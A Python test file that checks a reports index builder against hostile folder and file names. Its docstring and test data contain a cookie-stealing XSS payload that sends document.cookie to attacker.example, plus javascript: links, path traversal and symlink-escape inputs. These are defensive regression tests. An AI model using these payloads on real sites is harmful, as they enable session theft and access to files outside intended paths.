"""The reports index trusts no folder or file name (issue 20, finding 5): it is built from dated folders
only, and every link is relative, made of percent-encoded path segments the workbench itself names.

Observed before the fix: a folder `reports/javascript:fetch('//attacker.example/'+document.cookie)`
holding a `*-audit.json` became `<a href="javascript:fetch(...)/...">` in `reports/index.html` after
any index rebuild; a manifest naming its HTML `javascript:alert(1)` or `../../secret.html` was
linked as written.
"""

from __future__ import annotations

import json
import urllib.parse
from pathlib import Path

from bs4 import BeautifulSoup

from workbench.render.notebooks import write_index

HOSTILE_FOLDERS = (
    "javascript:fetch('//attacker.example/'+document.cookie)",
    "2026-13-01",  # not a date
    "latest",
    "2026-12-01 evil",
)


def manifest(folder: Path, stem: str, **reports: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    record = {
        "run_id": f"run-{stem}",
        "time": "10:15:00",
        "status": "complete",
        "verdicts": {"staging": "ready"},
        "readiness": {"staging": "ready"},
        "reports": [
            {"title": title, "notebook": html.removesuffix(".html") + ".ipynb", "html": html, "error": ""}
            for title, html in reports.items()
        ],
    }
    (folder / f"{stem}-audit.json").write_text(json.dumps(record))


def hrefs(index: Path) -> list[str]:
    soup = BeautifulSoup(index.read_text(), "html.parser")
    return [str(anchor.get("href")) for anchor in soup.find_all("a")]


def test_only_dated_folders_are_listed_and_links_are_relative_encoded_segments(tmp_path: Path) -> None:
    for folder in HOSTILE_FOLDERS:
        manifest(tmp_path / folder, "101500", Audit="101500-contract_audit.html")
    manifest(tmp_path / "2026-12-01", "101500", Audit="101500-contract_audit.html")
    manifest(
        tmp_path / "2026-12-02",
        "091500",
        Script="javascript:alert(1)",
        Escape="../../outside-contract_audit.html",
        Query="091500-contract_audit.html?x=<b>",
        Absolute="/etc/091500-contract_audit.html",
    )
    index = write_index(tmp_path)
    links = hrefs(index)
    assert links == ["2026-12-01/101500-contract_audit.html"]  # the hostile names are shown, not linked
    text = index.read_text()
    assert "javascript:" not in text.replace("javascript:alert(1)", "")  # never as a folder's link
    soup = BeautifulSoup(text, "html.parser")
    rows = [row.find("td").get_text() for row in soup.select("tbody tr")]
    assert rows == ["2026-12-02", "2026-12-01"]  # no row for a folder that is not a date
    assert all(
        urllib.parse.urlsplit(link).scheme == "" and not link.startswith(("/", "..")) for link in links
    )


def test_a_stem_with_characters_a_url_reads_is_encoded(tmp_path: Path) -> None:
    manifest(tmp_path / "2026-12-01", "101500-2", Audit="101500-2-contract_audit.html")
    assert hrefs(write_index(tmp_path)) == ["2026-12-01/101500-2-contract_audit.html"]
    day = tmp_path / "2026-12-03"
    day.mkdir()
    (tmp_path / "elsewhere").mkdir()
    manifest(tmp_path / "elsewhere", "120000", Audit="120000-contract_audit.html")
    (day / "120000-audit.json").symlink_to(tmp_path / "elsewhere" / "120000-audit.json")
    assert hrefs(write_index(tmp_path)) == ["2026-12-01/101500-2-contract_audit.html"]  # no link followed
